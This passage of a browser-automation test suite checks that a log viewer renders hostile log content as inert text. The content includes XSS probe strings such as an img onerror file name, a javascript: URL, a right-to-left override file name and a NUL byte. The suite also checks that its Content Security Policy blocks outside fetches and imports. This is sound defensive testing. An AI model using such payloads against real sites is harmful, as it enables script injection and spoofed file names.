  const expectedJson = detector.finish();
  detector.free();
  const ids = await rowIds(page);
  if (!HAS_EVTX) assert.deepEqual([...ids].sort(), expectedJson.chains.map((c) => c.id).sort(), "every JSON format gave its chain");
  assert.ok(ids.length >= 3, `a chain per format (${ids.length})`);
  // Every chain view, and its Markdown.
  for (const id of ids) {
    await openChain(page, id);
    await page.click("#copy-md");
    await page.waitForFunction((v) => document.body.dataset.copied === v, id);
    const markdown = await page.evaluate(() => navigator.clipboard.readText());
    assert.ok(!/[\u0000\u202e]/.test(markdown), "control and bidi characters escaped in Markdown");
    const live = outsideCode(markdown);
    assert.doesNotMatch(live, /!\[|\]\(|<[a-z/]|javascript:/i, "no link, image or markup outside code spans");
    assert.ok(markdown.includes("javascript:window.__xss=5//"), "the payloads are in the Markdown, as code");
  }
  const seen = await page.evaluate(() => ({
    xss: window.__xss,
    injected: document.querySelectorAll("img, iframe, object, embed, xss-probe, svg:not(.timeline) , a[href]").length,
    scripts: [...document.scripts].map((s) => s.getAttribute("src")),
    text: document.querySelector("main").textContent,
  }));
  assert.equal(seen.xss, undefined, "no script ran");
  assert.equal(seen.injected, 0, "no element came from the logs");
  assert.deepEqual(seen.scripts, ["theme.js", "app.js"]);
  for (const p of PAYLOADS.slice(0, 6)) assert.ok(seen.text.includes(p), `shown as text: ${p}`);
  assert.ok(seen.text.includes("evil\\u202eexe.txt"), "the right-to-left override is shown escaped");
  assert.ok(seen.text.includes("nul\\u0000byte"), "NUL is shown escaped");
  assert.ok(!/[\u0000\u202e]/.test(seen.text), "no raw NUL or bidi override on the page");
  assert.ok(seen.text.includes("xss<img src=x onerror=window.__xss=7>.jsonl"), "a hostile file name is text");
  assert.match(await page.textContent("#rejected"), /rejected: [1-9]/, "the over-long item and the broken line are rejected, with their file");
  if (!HAS_EVTX) assert.match(await page.textContent("#file-notes"), /xss-events\.xml: EVTX support not available/);

  // The CSP: no request beyond the page's own files, from the page or from the worker.
  const before = requests.length;
  const elsewhere = "http://127.0.0.2:9/probe";
  const fromPage = await page.evaluate((url) => fetch(url).then(() => "fetched", (e) => `blocked: ${e.message}`), elsewhere + "-page");
  const [worker] = page.workers();
  assert.ok(worker, "the viewer runs a worker");
  const fromWorker = await worker.evaluate((url) => fetch(url).then(() => "fetched", (e) => `blocked: ${e.message}`), elsewhere + "-worker");
  const fromWorkerImport = await worker.evaluate((url) => import(url).then(() => "imported", (e) => `blocked: ${e.message}`), elsewhere + "-import.js");
  assert.match(fromPage, /^blocked/);
  assert.match(fromWorker, /^blocked/);
  assert.match(fromWorkerImport, /^blocked/);
  assert.deepEqual(requests.slice(before).filter((u) => u.startsWith("http://127.0.0.2")), [], "blocked by the CSP before any request was made");
  assert.deepEqual(requests.filter((u) => !u.startsWith(server.url) && !u.startsWith("blob:") && !u.startsWith("data:")), [], "only the page's own files were asked for");
  assert.deepEqual(problems.filter((p) => !/Content Security Policy|127\.0\.0\.2/.test(p)), []);
  await page.close();
});
